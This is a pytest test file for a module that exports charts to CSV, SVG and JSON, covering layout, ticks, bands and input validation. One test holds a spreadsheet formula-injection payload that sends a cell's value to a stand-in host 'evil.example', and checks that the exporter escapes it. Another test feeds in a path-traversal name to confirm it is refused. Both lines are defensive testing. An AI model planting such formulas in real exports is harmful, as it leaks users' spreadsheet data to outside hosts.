"""Figures as values, and the numbers behind them."""

from __future__ import annotations

import csv
import io
import json
import math
import re
from itertools import pairwise
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from secvm.errors import BadInputError
from secvm.pages.drawing import LARGE, SMALL, draw
from secvm.pages.figure import Bars, Curve, Figure, Rule, Shade, Stack
from secvm.pages.legend import SAMPLE, Entry, beside, fitted, laid_out, wide
from secvm.pages.ticks import Tick

_SHARES = st.lists(st.floats(0, 1) | st.just(math.nan), min_size=1, max_size=30)


def _figure(*curves: Curve, rules: tuple[Rule, ...] = (), log_across: bool = False) -> Figure:
    return Figure("f", "A <title>", "What is & is not", "round", "share", curves, rules, log_across=log_across)


def _texts(svg: str) -> list[str]:
    return [text.text or "" for text in ET.fromstring(svg).iter("text")]


def test_the_numbers_of_a_figure_are_a_row_for_every_place() -> None:
    figure = _figure(
        Curve("a", [1, 2, 3], [0.5, math.nan, 0.1 + 0.2], [0.4, 0.5, 0.6], [0.6, 0.7, 0.8]),
        Curve("b, too", [2, 2.5], [7, 1e-9]),
        rules=(Rule("level", 0.25),),
    )
    assert figure.csv() == (
        'round,a,a low,a high,"b, too",level\n'
        "1,0.5,0.4,0.6,,0.25\n"
        "2,,0.5,0.7,7,0.25\n"
        "2.5,,,,1e-09,0.25\n"
        "3,0.30000000000000004,0.6,0.8,,0.25\n"
    )


def test_repro_a_label_could_be_a_formula_in_a_spreadsheet() -> None:
    evil = '=HYPERLINK("https://evil.example/?"&A2,"open")'
    names = next(csv.reader(io.StringIO(_figure(Curve(evil, [1], [2]), Curve("a=b", [1], [3])).csv())))
    assert names == ["round", f"'{evil}", "a=b"]
    for first in "=+-@\t\r":
        assert _figure(Curve(f"{first}x", [1], [2])).csv().partition(",")[2].lstrip('"').startswith("'")


def test_a_curve_that_stands_twice_at_a_place_has_two_rows() -> None:
    assert _figure(Curve("a", [1, 1, 2], [5, 6, 7])).csv() == "round,a\n1,5\n1,6\n2,7\n"


@given(st.lists(st.tuples(st.integers(-50, 50), st.floats(allow_nan=False, allow_infinity=False)), max_size=30))
def test_the_numbers_come_back_exactly(points: list[tuple[int, float]]) -> None:
    figure = _figure(Curve("a", [x for x, _ in points], [y for _, y in points]))
    rows = list(csv.reader(io.StringIO(figure.csv())))[1:]
    assert sorted((float(x), float(y)) for x, y in rows) == sorted((float(x), y) for x, y in points)


@settings(deadline=None)
@given(_SHARES, st.booleans(), st.booleans())
def test_drawings_stay_inside_and_break_where_there_is_no_value(values: list[float], log: bool, dashed: bool) -> None:
    x = [1.0 + i for i in range(len(values))]
    figure = _figure(Curve("a", x, values, values, values, dashed=dashed), rules=(Rule("r", 0.4),), log_across=log)
    for size in (LARGE, SMALL):
        svg = draw(figure, size)
        box = ET.fromstring(svg).get("viewBox")
        assert box is not None
        width, height = (float(part) for part in box.split()[2:])
        for name, most in (("x", width), ("x1", width), ("x2", width), ("cx", width), ("y1", height), ("cy", height)):
            assert all(0 <= float(value) <= most for value in re.findall(rf' {name}="([^"%]*)"', svg))
        for points in re.findall(r'points="([^"]*)"', svg):
            for point in points.split():
                across, up = point.split(",")
                assert 0 <= float(across) <= width
                assert 0 <= float(up) <= height
        there = [not math.isnan(value) for value in values]
        runs = sum(here and not before for before, here in zip([False, *there], there, strict=False))
        lines = svg.count("<polyline")
        assert lines <= runs == svg.count("<polygon")
        assert "nan" not in svg


def test_names_stand_at_the_ends_of_curves_that_are_apart_and_else_in_a_legend() -> None:
    apart = _figure(Curve("upper", [0, 1], [0, 0.9]), Curve("lower", [0, 1], [0, 0.1]))
    close = _figure(Curve("upper", [0, 1], [0, 0.90]), *(Curve(f"n{i}", [0, 1], [1, 0.9 + i / 1e3]) for i in range(5)))
    ends = ET.fromstring(draw(apart, LARGE))
    named = [text for text in ends.iter("text") if text.text in ("upper", "lower")]
    assert {text.get("class") for text in named} == {"label name-0"}
    assert "name-0" not in draw(close, LARGE)
    assert "name-0" not in draw(apart, SMALL)
    for svg in (draw(apart, SMALL), draw(close, LARGE)):
        assert "upper" in _texts(svg)


@given(st.lists(st.text(alphabet="abcm iW%", min_size=1, max_size=30), min_size=1, max_size=9))
def test_entries_of_a_legend_do_not_overlap(names: list[str]) -> None:
    room = 360.0
    rows = laid_out([Entry(name, "curve") for name in names], room)
    assert [entry.name for row in rows for _, entry in row] == [fitted(name, room - SAMPLE) for name in names]
    for row in rows:
        ends = [x + 34 + wide(entry.name) for x, entry in row]
        assert all(end <= x for end, (x, _) in zip(ends, row[1:], strict=False))
        assert ends[-1] <= room


@given(st.lists(st.floats(0, 400), min_size=1, max_size=9))
def test_names_beside_curves_do_not_overlap(places: list[float]) -> None:
    entries = [Entry(str(i), "curve") for i in range(len(places))]
    named = beside(entries, {str(i): place for i, place in enumerate(places)}, 100.0)
    heights = sorted(one.placed for one in named)
    assert all(lower - upper > 14 for upper, lower in pairwise(heights))
    assert len(named) in (0, len(places))


def _bars(*values: list[float]) -> Figure:
    stacks = [Stack(f"s{i}", heights, colour=i) for i, heights in enumerate(values)]
    return Figure("f", "t", "d", "round", "people", bars=Bars(range(1, len(values[0]) + 1), stacks))


@given(st.lists(st.tuples(st.floats(0, 1e6), st.floats(0, 1e6) | st.just(math.nan)), min_size=1, max_size=30))
def test_bars_stand_on_the_axis_and_on_each_other_and_stay_inside(heights: list[tuple[float, float]]) -> None:
    figure = _bars([lower for lower, _ in heights], [upper for _, upper in heights])
    assert figure.ends_up[0] == 0
    assert figure.ends_across == (0.5, len(heights) + 0.5)
    for size in (LARGE, SMALL):
        below, above = [part.get("d", "") for part in ET.fromstring(draw(figure, size)).iter("path")]
        tops = dict(re.findall(r"M([\d.]+),([\d.]+)H", below))
        for path in (below, above):
            for left, top, right, bottom in re.findall(r"M([\d.]+),([\d.]+)H([\d.]+)V([\d.]+)H", path):
                assert 0 <= float(left) < float(right) <= size.width
                assert 0 <= float(top) <= float(bottom) <= size.height
        for left, bottom in re.findall(r"M([\d.]+),[\d.]+H[\d.]+V([\d.]+)H", above):
            assert bottom == tops.get(left, str(size.height - 46))
        assert "nan" not in below + above


def test_bars_are_rows_of_the_numbers_too_and_what_is_counted_has_whole_numbers_below() -> None:
    figure = _bars([3, 4, 5], [1, math.nan, 2])
    assert figure.csv() == "round,s0,s1\n1,3,1\n2,4,\n3,5,2\n"
    assert [tick.label for tick in figure.ticks_across(10)] == ["1", "2", "3"]
    assert [tick.label for tick in _figure(Curve("a", [1, 2.5], [0, 1])).ticks_across(4)] == [
        "1.0",
        "1.5",
        "2.0",
        "2.5",
    ]


def test_bars_of_nobody_have_an_axis() -> None:
    assert _bars([0, 0]).ends_up == (0, 1)


def test_places_with_names_carry_them_in_lines() -> None:
    places = [Tick(1, "one\n\u22125"), Tick(2, "two\n\u22126"), Tick(9, "beyond")]
    figure = Figure("f", "t", "d", "x", "y", [Curve("a", [1, 2], [0, 1])], places=places)
    texts = _texts(draw(figure, LARGE))
    assert [text for text in texts if text in {"one", "\u22125", "two", "\u22126", "beyond"}] == [
        "one",
        "\u22125",
        "two",
        "\u22126",
    ]


def test_a_spec_is_json_that_has_everything_a_page_needs() -> None:
    figure = Figure(
        "f",
        "t",
        "d",
        "round",
        "share",
        [Curve("a", [1, 2], [0.5, math.nan], [0.4, math.inf], [0.6, 1], colour=3, dashed=True), Curve("b", [1], [1])],
        [Rule("r", math.nan), Rule("q", 2)],
        [Shade(1, 2, "night")],
        percent=True,
        lowest=0.0,
        bars=Bars([1, 2], [Stack("s", [1, 2], 4)]),
        places=[Tick(1.0, "one")],
    )
    assert json.loads(json.dumps(figure.spec(), allow_nan=False)) == {
        "name": "f",
        "title": "t",
        "description": "d",
        "across": "round",
        "up": "share",
        "percent": True,
        "lowest": 0,
        "highest": None,
        "log_across": False,
        "curves": [
            {
                "name": "a",
                "x": [1, 2],
                "y": [0.5, None],
                "low": [0.4, None],
                "high": [0.6, 1],
                "colour": 3,
                "dashed": True,
            },
            {"name": "b", "x": [1], "y": [1], "low": None, "high": None, "colour": 0, "dashed": False},
        ],
        "bars": {"x": [1, 2], "stacks": [{"name": "s", "values": [1, 2], "colour": 4}]},
        "rules": [{"name": "r", "value": None}, {"name": "q", "value": 2}],
        "shades": [{"low": 1, "high": 2, "name": "night"}],
        "places": [{"value": 1, "label": "one"}],
    }


def test_repro_a_level_given_as_an_integer_is_written_like_any_other() -> None:
    assert _figure(Curve("a", [1], [2]), rules=(Rule("floor", 120),)).csv() == "round,a,floor\n1,2,120\n"


def test_repro_a_name_that_is_wider_than_the_drawing_is_cut_and_says_so() -> None:
    long = "none of these, or I would rather not say, baseline, and so on and on"
    (((where, entry),),) = laid_out([Entry(long, "curve")], 360)
    assert (where, entry.name[-1]) == (0, "…")
    assert long.startswith(entry.name[:-1])
    assert 320 < SAMPLE + wide(entry.name) <= 360
    assert fitted("short", 360) == "short"


def test_repro_an_interval_of_nobody_who_was_counted_is_no_band() -> None:
    svg = draw(_figure(Curve("a", [1, 2, 3], [0.5, math.nan, math.nan], [0.4, 0, 0], [0.6, 1, 1])), LARGE)
    assert svg.count('class="band-0"') == 1
    assert len(re.findall(r'class="band-0" points="([^"]*)"', svg)[0].split()) == 2


def test_the_band_of_a_point_alone_is_a_whisker() -> None:
    svg = draw(_figure(Curve("a", [1, 2, 3], [0.5, math.nan, 0.5], [0.4, math.nan, 0.4], [0.6, math.nan, 0.6])), LARGE)
    assert svg.count('class="whisker series-0"') == 2


def test_a_logarithmic_axis_has_small_marks_between_its_numbers() -> None:
    figure = _figure(Curve("a", [1, 100], [0, 1]), log_across=True)
    assert figure.marks_across() == [*range(2, 10), *range(20, 100, 10)]
    assert _figure(Curve("a", [1, 1e9], [0, 1]), log_across=True).marks_across() == []
    assert _figure(Curve("a", [1, 100], [0, 1])).marks_across() == []


@given(st.floats(-9, 9), st.floats(0.1, 12), st.booleans())
def test_numbers_below_an_axis_do_not_overlap(start: float, decades: float, log: bool) -> None:
    figure = _figure(Curve("a", [10.0**start, 10.0 ** (start + decades)], [0, 1]), log_across=log)
    for size in (LARGE, SMALL):
        ticks = [text for text in ET.fromstring(draw(figure, size)).iter("text") if text.get("text-anchor") == "middle"]
        spans = [(float(t.get("x", "")), wide(t.text or "") / 2) for t in ticks if t.get("class") == "tick"]
        assert spans
        assert all(x + half < after - more for (x, half), (after, more) in pairwise(spans))


def test_a_night_is_drawn_and_named_once() -> None:
    nights = [Shade(2, 4, "night"), Shade(6, 8, "night")]
    svg = Figure("f", "t", "d", "x", "y", [Curve("a", [0, 10], [0, 1])], shades=nights).svg()
    assert svg.count('class="shade"') == 3
    assert _texts_of_document(svg).count("night") == 1


def _texts_of_document(svg: str) -> list[str]:
    space = "{http://www.w3.org/2000/svg}"
    return [text.text or "" for text in ET.fromstring(svg).iter(f"{space}text")]


def test_levels_beyond_an_axis_that_was_given_are_kept_at_its_edge() -> None:
    figure = Figure("f", "t", "d", "x", "y", [Curve("a", [0, 1], [-5, 5])], lowest=0.0, highest=1.0, percent=True)
    assert figure.ends_up == (0.0, 1.0)
    assert [tick.label for tick in figure.ticks_up()][-1] == "100\u00a0%"


@pytest.mark.parametrize(
    "wrong",
    [
        lambda: Curve("a", [1, 2], [1]),
        lambda: Curve("a", [1], [1], low=[0]),
        lambda: Curve("a", [math.nan], [1]),
        lambda: _figure(Curve("a", [1], [1]), Curve("a", [1], [1])),
        lambda: _figure(Curve("a", [0], [1]), log_across=True),
        lambda: Figure("../up", "t", "d", "x", "y", []),
        lambda: Bars([1, 2], [Stack("a", [1])]),
        lambda: Bars([1], [Stack("a", [-1])]),
        lambda: Bars([1, 1], [Stack("a", [1, 2])]),
        lambda: Bars([math.inf], [Stack("a", [1])]),
        lambda: Figure("f", "t", "d", "x", "y", bars=Bars([1], [Stack("a", [1])]), log_across=True),
        lambda: Figure("f", "t", "d", "x", "y", [Curve("a", [1], [1])], bars=Bars([1], [Stack("a", [1])])),
    ],
)
def test_what_cannot_be_drawn_is_refused_in_a_sentence(wrong: object) -> None:
    assert callable(wrong)
    with pytest.raises(BadInputError):
        wrong()


def test_a_figure_without_curves_is_an_empty_one() -> None:
    empty = _figure()
    ET.fromstring(draw(empty, LARGE))
    assert empty.csv() == "round\n"
